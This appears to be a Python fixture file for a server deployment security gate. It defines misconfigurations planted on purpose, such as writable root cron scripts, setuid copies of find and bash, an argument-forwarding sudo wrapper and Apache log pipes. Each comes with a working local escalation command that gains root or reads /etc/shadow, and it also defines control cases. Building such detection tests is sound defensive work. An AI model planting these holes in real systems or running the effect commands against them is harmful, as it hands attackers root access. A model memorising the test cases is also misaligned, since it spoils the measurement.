"""blind12b: a second blind measurement, written before reading any gate code, promises doc or earlier fault file.

ALLOWED: faults that sit behind an allowance. Every ALLOWED host first gets BASE, the allowed things an ordinary
ops team adds to an app server (a root ops agent on loopback, a backup cron job, two sudo rules for the app user,
the app user in two groups, a setuid socket probe for the netops group, an ops Apache conf, a status site, a report unit),
all accounted for by ALLOW_KEYS; then one drift next to, or abusing, one of them.
PLAIN: faults of families chosen here, no allowance involved.
CONTROLS: ordinary admin changes that must pass, or fail with one line naming the allowance to write;
``control-allowed-baseline`` is BASE alone (must pass under ALLOW_KEYS).

Every fault has an ``effect``: a root shell run in the same container right after the (read-only) gate ran on it,
acting as the less trusted account with ``runuser``, that shows what that account gets. Where a daemon the
container does not run (cron, systemd, apt's next run) would act, the effect runs the exact command that daemon
runs, as root, and says so.

Placeholders: deploytests.faults.catalogue.values_for ({root}, {app_user}, {login} ...); literal braces doubled.
"""
from dataclasses import dataclass

from deploytests.faults.catalogue import Fault


@dataclass(frozen=True)
class F(Fault):
    effect: str = ""
    family: str = ""


APP = "runuser -u {app_user} -- "
DEP = "runuser -u deployer -- "
GRACEFUL = "apache2ctl graceful; sleep 1"

AGENT = r"""#!/usr/bin/python3
# ops-agent: answers the load balancer's probe on loopback
import sys
sys.path.insert(0, "/opt/ops-agent/lib")
import http.server
try:
    import plugins  # optional site plugins
except ImportError:
    plugins = None
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok\n")
    def log_message(self, *a):
        pass
http.server.HTTPServer(("127.0.0.1", 8125), H).serve_forever()
"""

START_AGENT = "(cd / && setsid /usr/local/sbin/ops-agent </dev/null >/dev/null 2>&1 &); sleep 1"
STOP_AGENT = "pkill -f '^/usr/bin/python3 /usr/local/sbin/ops-agent' || true; sleep 0.5"


def heredoc(path: str, text: str) -> str:
    return f"cat > {path} <<'EOF_B12B'\n{text.rstrip()}\nEOF_B12B\n"


BASE = (
    # 1. a root ops agent on loopback:8125 (allow_listen)
    "mkdir -p /opt/ops-agent/lib\n"
    + heredoc("/usr/local/sbin/ops-agent", AGENT)
    + "chmod 0755 /usr/local/sbin/ops-agent\n" + START_AGENT + "\n"
    # 2. a nightly backup of the app's data (allow_cron)
    + "mkdir -p /etc/cron.d /var/backups/app; chmod 0700 /var/backups/app\n"
    + heredoc("/usr/local/sbin/app-backup", "#!/bin/sh\nset -e\numask 077\n"
              "tar czf /var/backups/app/data.tgz -C {root}/shared data")
    + "chmod 0755 /usr/local/sbin/app-backup\n"
    + "echo '15 3 * * * root /usr/local/sbin/app-backup' > /etc/cron.d/app-backup; chmod 0644 /etc/cron.d/app-backup\n"
    # 3. two sudo rules for the app user (allow_sudo): reload Apache, flush a cache
    + heredoc("/usr/local/sbin/app-reload", "#!/bin/sh\nexec /usr/sbin/apache2ctl graceful")
    + "mkdir -p /var/cache/app-cache; chown {app_user} /var/cache/app-cache\n"
    + heredoc("/usr/local/sbin/app-cache-flush",
              "#!/bin/sh\nset -e\nfind /var/cache/app-cache -mindepth 1 -xdev -delete")
    + "chmod 0755 /usr/local/sbin/app-reload /usr/local/sbin/app-cache-flush\n"
    + "printf '%s\\n' '{app_user} ALL=(root) NOPASSWD: /usr/local/sbin/app-reload' "
      "'{app_user} ALL=(root) NOPASSWD: /usr/local/sbin/app-cache-flush' > /etc/sudoers.d/app-ops\n"
    + "chmod 0440 /etc/sudoers.d/app-ops; visudo -c >/dev/null\n"
    # 4. groups (allow_groups) and 5. a setuid socket probe for netops (allow_privileged): ss, owners of all sockets
    + "groupadd -f netops; usermod -aG netops,staff {app_user}\n"
    + "cp /usr/bin/ss /usr/local/bin/sock-probe; chown root:netops /usr/local/bin/sock-probe; "
      "chmod 4750 /usr/local/bin/sock-probe\n"
    # 6. an ops Apache conf (allow_apache_conf)
    + heredoc("/etc/apache2/conf-available/ops.conf",
              '# ops: request timing in the access log, shorter keep-alive\n'
              'LogFormat "%h %l %u %t \\"%r\\" %>s %O %D" timed\nKeepAliveTimeout 3')
    + "a2enconf -q ops\n"
    # 7. a status site (allow_sites)
    + "mkdir -p /var/www/status; echo ok > /var/www/status/index.html\n"
    + heredoc("/etc/apache2/sites-available/zz-status.conf",
              "<VirtualHost *:80>\n    ServerName status.example.com\n    DocumentRoot /var/www/status\n"
              "    <Directory /var/www/status>\n        Require all granted\n    </Directory>\n</VirtualHost>")
    + "a2ensite -q zz-status\n"
    # 8. a report unit of the app's (allow_units)
    + heredoc("/etc/systemd/system/app-report.service",
              "[Unit]\nDescription=yourapplication data report\n\n[Service]\nType=oneshot\nUser={app_user}\n"
              "WorkingDirectory={root}/shared/data\n"
              "ExecStart={root}/current/venv/bin/python -m flask --app yourapplication init-data")
    + GRACEFUL + "\n"
)

ALLOW_KEYS = """allow_listen = ["localhost:8125 root /usr/local/sbin/ops-agent"]
allow_cron = ["/etc/cron.d/app-backup"]
allow_sudo = ["{app_user} ALL=(root) NOPASSWD: /usr/local/sbin/app-reload", "{app_user} ALL=(root) NOPASSWD: /usr/local/sbin/app-cache-flush"]
allow_groups = ["{app_user}: netops", "{app_user}: staff"]
allow_privileged = ["/usr/local/bin/sock-probe 4750 root:netops"]
allow_apache_conf = ["/etc/apache2/conf-enabled/ops.conf", "/etc/apache2/sites-enabled/zz-status.conf"]
allow_sites = ["status.example.com"]
allow_units = ["app-report.service"]
"""

def payload(text: str) -> str:
    """Root writes ``text`` to /tmp/payload (0755, readable by all): the effect's account then copies it where it
    may write (the copy is that account's own act; root only spares the quoting)."""
    return heredoc("/tmp/payload", text) + "chmod 0755 /tmp/payload; "


def A(id_: str, what: str, drift: str, effect: str) -> F:
    return F(id_, "allowed", what, BASE + drift, effect=effect, family="behind an allowance")


ALLOWED = (
    A("a01-backup-script-app-writable", "the allowed cron job's script handed to the app team (group app, g+w)",
      "chgrp {app_user} /usr/local/sbin/app-backup; chmod 0775 /usr/local/sbin/app-backup",
      APP + "sh -c 'echo \"id > /tmp/a01-ran-as\" >> /usr/local/sbin/app-backup'; "
      "echo '[cron would run, as root:] /usr/local/sbin/app-backup'; /usr/local/sbin/app-backup; cat /tmp/a01-ran-as"),
    A("a02-cron-file-extra-root-server", "a second line in the allowed cron file: an @reboot root web server on / left "
      "from fetching a file once",
      "echo '@reboot root cd / && /usr/bin/python3 -m http.server 8000 >/dev/null 2>&1' >> /etc/cron.d/app-backup",
      "echo '[cron at boot would run, as root:]'; (cd / && setsid /usr/bin/python3 -m http.server 8000 "
      "</dev/null >/dev/null 2>&1 &); sleep 1.5; "
      "curl -s http://$(hostname -i | cut -d' ' -f1):8000/etc/shadow | head -n 2"),
    A("a03-sudo-script-sources-app-file", "the allowed sudo script made configurable: it sources a file in the "
      "app's shared data", "echo 'CACHE_DIR=/var/cache/app-cache' > {root}/shared/data/cache.env; "
      "chown {app_user} {root}/shared/data/cache.env; "
      "printf '#!/bin/sh\\nset -e\\n. {root}/shared/data/cache.env\\nfind \"$CACHE_DIR\" -mindepth 1 -xdev -delete\\n' "
      "> /usr/local/sbin/app-cache-flush",
      APP + "sh -c 'echo \"id > /tmp/a03-ran-as\" >> {root}/shared/data/cache.env'; "
      + APP + "sudo -n /usr/local/sbin/app-cache-flush; cat /tmp/a03-ran-as"),
    A("a04-agent-plugins-dir-deployer", "the allowed root agent's plugin dir handed to the ops login deployer",
      "chown -R deployer /opt/ops-agent/lib",
      payload('import os\nos.system("id > /tmp/a04-ran-as")') + DEP + "cp /tmp/payload /opt/ops-agent/lib/plugins.py; "
      "echo '[the agent restarts (reboot, upgrade):]'; " + STOP_AGENT + "; " + START_AGENT + "; cat /tmp/a04-ran-as"),
    A("a05-ops-conf-includes-deployer-dir", "the allowed ops conf includes an (empty) dir the ops login deployer owns",
      "mkdir -p /srv/ops/apache; chown -R deployer /srv/ops; "
      "echo 'IncludeOptional /srv/ops/apache/*.conf' >> /etc/apache2/conf-available/ops.conf; " + GRACEFUL,
      payload('CustomLog "|/bin/sh -c \'id > /tmp/a05-ran-as; exec cat >/dev/null\'" common')
      + DEP + "cp /tmp/payload /srv/ops/apache/x.conf; cat /srv/ops/apache/x.conf; echo '[root reloads Apache:]'; " + GRACEFUL
      + "; sleep 1; cat /tmp/a05-ran-as"),
    A("a06-status-site-links-app-tree", "a convenience link from the allowed status site's docroot to the app's tree",
      "ln -s {root} /var/www/status/app",
      "curl -s -H 'Host: status.example.com' http://127.0.0.1/app/ | grep -o 'href=\"[^\"]*\"' | head; "
      "curl -s -H 'Host: status.example.com' http://127.0.0.1/app/application.wsgi | head -n 8; "
      "f=$(cd {root}/current && find . -path '*site-packages/yourapplication/*.py' | head -n 1); echo \"GET /app/current/$f\"; "
      "curl -s -H 'Host: status.example.com' \"http://127.0.0.1/app/current/$f\" | head -n 5"),
    A("a07-staff-writes-usr-local-sbin", "/usr/local/sbin made Debian's old root:staff 2775, the app user being in "
      "the allowed group staff", "chgrp staff /usr/local/sbin; chmod 2775 /usr/local/sbin",
      payload('#!/bin/sh\nid > /tmp/a07-ran-as\nexec /usr/sbin/apache2ctl "$@"') + APP
      + "cp /tmp/payload /usr/local/sbin/apache2ctl; ls -l /usr/local/sbin/apache2ctl; "
      "echo '[root runs apache2ctl from a login shell:]'; bash -lc 'apache2ctl -v >/dev/null'; cat /tmp/a07-ran-as"),
    A("a08-report-unit-user-removed", "the allowed report unit's User= line deleted in a hand edit (runs as root, "
      "working dir in the app's shared data)", "sed -i '/^User=/d' /etc/systemd/system/app-report.service",
      payload('import os\nos.system("id > /tmp/a08-ran-as")') + APP + "mkdir -p {root}/shared/data/flask; "
      + APP + "cp /tmp/payload {root}/shared/data/flask/__main__.py; " + APP + "touch {root}/shared/data/flask/__init__.py; "
      "echo '[systemd would run, as root (no User=):]'; cd {root}/shared/data && "
      "{root}/current/venv/bin/python -m flask --app yourapplication init-data; cat /tmp/a08-ran-as"),
    A("a09-probe-replaced-by-find", "the allowed setuid socket probe rebuilt from the wrong binary (find), same bits",
      "cp /usr/bin/find /usr/local/bin/sock-probe; chown root:netops /usr/local/bin/sock-probe; "
      "chmod 4750 /usr/local/bin/sock-probe",
      APP + "/usr/local/bin/sock-probe /etc/shadow -maxdepth 0 -exec /bin/sh -p -c 'id; head -n 1 /etc/shadow' \\;"),
    A("a10-sudo-wrapper-forwards-args", "the allowed sudo wrapper made to pass its arguments to apache2ctl",
      "printf '#!/bin/sh\\nexec /usr/sbin/apache2ctl \"${{@:-graceful}}\"\\n' > /usr/local/sbin/app-reload",
      payload("ServerRoot /etc/apache2\nLoadModule mpm_prefork_module /usr/lib/apache2/modules/mod_mpm_prefork.so\n"
              "Listen 127.0.0.1:8999\nPidFile /tmp/a10.pid\n"
              "ErrorLog \"|/bin/sh -c 'id > /tmp/a10-ran-as; exec cat >/dev/null'\"")
      + APP + "cp /tmp/payload /tmp/a10.conf; "
      + APP + "sudo -n /usr/local/sbin/app-reload -f /tmp/a10.conf -k start; sleep 1.5; cat /tmp/a10-ran-as"),
    A("a11-agent-on-all-interfaces", "the allowed loopback agent rebound to 0.0.0.0 so the load balancer reaches it",
      "sed -i 's/127.0.0.1/0.0.0.0/' /usr/local/sbin/ops-agent; " + STOP_AGENT + "; " + START_AGENT,
      "curl -s http://$(hostname -i | cut -d' ' -f1):8125/; ss -ltnp | grep 8125"),
    A("a12-backup-dir-owned-by-app", "the allowed backup job's output dir given to the app user (to list backups)",
      "chown {app_user} /var/backups/app",
      "echo root-only > /etc/a12-victim; chmod 600 /etc/a12-victim; "
      + APP + "ln -sf /etc/a12-victim /var/backups/app/data.tgz; "
      "echo '[cron would run, as root:] /usr/local/sbin/app-backup'; /usr/local/sbin/app-backup; "
      "ls -l /etc/a12-victim; head -c 4 /etc/a12-victim | od -c | head -n 1"),
    A("a13-ops-conf-log-in-app-data", "the allowed ops conf writes a timing log into the app's shared data",
      "echo 'CustomLog {root}/shared/data/requests.log timed' >> /etc/apache2/conf-available/ops.conf; " + GRACEFUL,
      APP + "sh -c 'rm -f {root}/shared/data/requests.log; ln -s /etc/profile.d/zz-a13.sh "
      "{root}/shared/data/requests.log'; echo '[logrotate reloads Apache:]'; " + GRACEFUL + "; "
      "curl -s --path-as-is -o /dev/null -H 'Host: status.example.com' 'http://127.0.0.1/$(id>/tmp/a13-ran-as)'; sleep 0.5; ls -l /etc/profile.d/zz-a13.sh; "
      "echo '[root logs in:]'; bash -lc true 2>/dev/null; cat /tmp/a13-ran-as"),
)


def P(id_: str, what: str, command: str, effect: str) -> F:
    return F(id_, "plain", what, command, effect=effect, family="plain")


PLAIN = (
    P("p01-apt-hook-missing-tmp-script", "an apt hook left after its script was cleaned up: runs /tmp/apt-pre.sh if "
      "anyone makes it", "printf 'APT::Update::Pre-Invoke {{ \"if [ -x /tmp/apt-pre.sh ]; then /tmp/apt-pre.sh; fi\"; }};\\n'"
      " > /etc/apt/apt.conf.d/99ops-pre",
      payload("#!/bin/sh\nid > /tmp/p01-ran-as") + APP + "cp /tmp/payload /tmp/apt-pre.sh; "
      "echo '[root runs apt-get update:]'; timeout 60 apt-get update -qq >/dev/null 2>&1; cat /tmp/p01-ran-as"),
    P("p02-stale-key-deploy-login", "a departed colleague's key left in the deploy login's authorized_keys",
      "ssh-keygen -q -t ed25519 -N '' -C former-colleague -f /root/p02key; "
      "cat /root/p02key.pub >> \"$(getent passwd {login} | cut -d: -f6)/.ssh/authorized_keys\"",
      "ssh -q -i /root/p02key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null {login}@127.0.0.1 "
      "'sudo -n id'"),
    P("p03-gshadow-admin-shadow", "the app user made administrator of group shadow (gpasswd -A)",
      "gpasswd -A {app_user} shadow",
      APP + "gpasswd -a {app_user} shadow; " + APP + "sg shadow -c 'head -n 1 /etc/shadow'"),
    P("p04-shared-data-world-readable", "chmod -R o+rX on the app's shared data while debugging a permission error",
      "chmod -R o+rX {root}/shared/data",
      DEP + "sh -c 'ls -la {root}/shared/data; for f in {root}/shared/data/*; do [ -f \"$f\" ] && head -c 120 \"$f\" "
      "| od -c | head -n 2; done'"),
    P("p05-setuid-shell-in-var-tmp", "a setuid copy of bash an admin left in /var/tmp",
      "cp /bin/bash /var/tmp/.rs; chmod 4755 /var/tmp/.rs",
      DEP + "/var/tmp/.rs -p -c 'id; head -n 1 /etc/shadow'"),
)


def C(id_: str, what: str, command: str) -> F:
    return F(id_, "control", what, command, family="control")


CONTROLS = (
    C("c01-allowed-baseline", "BASE alone: every allowed thing, no drift (must pass under ALLOW_KEYS)",
      BASE),
    C("c02-tmp-cleanup-cron", "an admin's cron job deleting week-old files in /tmp",
      "mkdir -p /etc/cron.d; echo '0 4 * * * root find /tmp -xdev -type f -mtime +7 -delete' > /etc/cron.d/tmp-clean"),
    C("c03-package-installed", "apt-get install less (an ordinary package)",
      "apt-get update -qq >/dev/null 2>&1; apt-get install -y -qq --no-install-recommends less >/dev/null 2>&1; "
      "test -x /usr/bin/less"),
    C("c04-new-admin-login", "a new admin login alice in group sudo, with a key (password locked)",
      "useradd -m -s /bin/bash -G sudo alice; usermod -p '*' alice; install -d -m 700 -o alice -g alice "
      "/home/alice/.ssh; ssh-keygen -q -t ed25519 -N '' -f /root/alice; install -m 600 -o alice -g alice "
      "/root/alice.pub /home/alice/.ssh/authorized_keys"),
)

ALL = ALLOWED + PLAIN + CONTROLS
